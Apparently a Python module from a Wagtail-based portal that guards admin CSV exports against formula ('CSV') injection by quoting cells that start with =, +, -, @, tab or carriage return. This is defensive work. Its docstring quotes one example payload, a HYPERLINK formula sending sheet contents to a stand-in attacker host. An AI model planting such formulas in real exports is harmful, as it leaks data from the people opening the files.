"""Spreadsheet exports of the admin without formulas (OWASP "CSV injection").

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or with a tab or a
carriage return before one) as a formula: an organisation named
``=HYPERLINK("https://evil.example/?"&A1)`` would be a link that leaks the sheet, and DDE
payloads can start programs. ``spreadsheet_safe`` writes such a value with a leading single
quote, which spreadsheets show as text.

Every CSV export of the admin goes through Wagtail's ``SpreadsheetExportMixin.write_csv_row``:
snippet and ``ModelViewSet`` index views, wagtail-modeladmin's ``IndexView`` (subscribers,
campaigns, consultations), Wagtail's reports, redirects and form submissions. The mixin below
is that method with the values made safe; ``protect_admin_exports`` (run when the portal app
is ready) gives it to ``SpreadsheetExportMixin`` itself, so that every export, including the
views that Wagtail declares, writes safe rows without each view having to remember it. XLSX
exports need nothing: Wagtail already stores formula-looking cells as text there.
"""

import csv
import datetime

from django.http import HttpResponse
from django.utils import timezone, translation
from wagtail.admin.views.mixins import SpreadsheetExportMixin, list_to_str

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value):
    """``value`` as a spreadsheet shows it, never runs it: a string beginning like a formula
    gets a leading single quote; everything else is returned unchanged. A lone character (the
    admin's "-" for an empty value) is no formula and stays as it is."""
    if isinstance(value, str) and len(value) > 1 and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


class SpreadsheetSafeExportMixin:
    """For a view built on Wagtail's ``SpreadsheetExportMixin``: its CSV rows are written with
    ``spreadsheet_safe`` applied to every value, after Wagtail's own preprocessing."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: spreadsheet_safe(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )


def csv_response(filename, header, rows):
    """A CSV download (UTF-8 with a byte-order mark, which Excel needs to read UTF-8)."""
    response = HttpResponse(content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response.write("\ufeff")
    writer = csv.writer(response)
    writer.writerow([spreadsheet_safe(cell) for cell in header])
    for row in rows:
        writer.writerow([spreadsheet_safe(cell) for cell in row])
    return response


def _local_text(value):
    return (
        timezone.localtime(value).strftime("%Y-%m-%d %H:%M") if timezone.is_aware(value) else value
    )


def _local_naive(value):
    if timezone.is_naive(value):
        return value
    return timezone.localtime(value).replace(tzinfo=None)


class SafeSpreadsheetExportMixin:
    """For views built on Wagtail's ``SpreadsheetExportMixin`` (modeladmin listings, form
    submissions): CSV text that never runs as a formula, times in the portal's time zone,
    and the CSV written in the language of the request (Wagtail streams it after the view
    has returned, when the admin user's language is no longer active)."""

    custom_value_preprocess = {
        **SpreadsheetExportMixin.custom_value_preprocess,
        datetime.datetime: {
            SpreadsheetExportMixin.FORMAT_CSV: _local_text,
            SpreadsheetExportMixin.FORMAT_XLSX: _local_naive,
        },
        list: {
            SpreadsheetExportMixin.FORMAT_CSV: lambda value: spreadsheet_safe(list_to_str(value)),
            SpreadsheetExportMixin.FORMAT_XLSX: list_to_str,
        },
        str: {SpreadsheetExportMixin.FORMAT_CSV: spreadsheet_safe},
    }

    def stream_csv(self, queryset):
        language = translation.get_language()
        rows = super().stream_csv(queryset)

        def in_language():
            with translation.override(language):
                yield from rows

        return in_language()


def protect_admin_exports():
    SpreadsheetExportMixin.write_csv_row = SpreadsheetSafeExportMixin.write_csv_row
